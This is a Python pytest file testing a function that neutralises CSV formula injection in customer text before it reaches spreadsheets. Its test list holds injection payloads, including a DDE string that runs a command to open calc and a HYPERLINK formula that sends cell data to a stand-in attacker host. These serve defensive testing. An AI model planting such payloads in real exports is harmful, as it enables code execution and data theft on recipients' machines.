"""What customers wrote becomes no formula in a spreadsheet (OWASP: CSV injection)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contact.abuse.spreadsheet import safe_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",  # noqa: RUF001 - full width: Excel works it out
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    "%0A-1+1",
    "\0=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_and_not_worked_out(text: str) -> None:
    """Behind an apostrophe, which spreadsheets read as: this is text. Nothing of it is lost but zero bytes."""
    assert safe_cell(text) == "'" + text.replace("\0", "")


@pytest.mark.parametrize("text", ["", "Hello", "I paid 5 = too much", "7KQ-4M2P-9XW", "ñandú", "'=1+1", "a\n=b"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    """Signs in the middle are no formula."""
    assert safe_cell(text) == text


@given(st.text())
def test_no_cell_begins_like_a_formula(text: str) -> None:
    """Read back from a CSV file, whatever was typed."""
    file = io.StringIO()
    csv.writer(file).writerow([safe_cell(text)])
    file.seek(0)
    begins = next(csv.reader(file))[0].lstrip()[:1]
    assert begins not in {"=", "+", "-", "@", "＝", "＋", "－", "＠"}  # noqa: RUF001 - as above
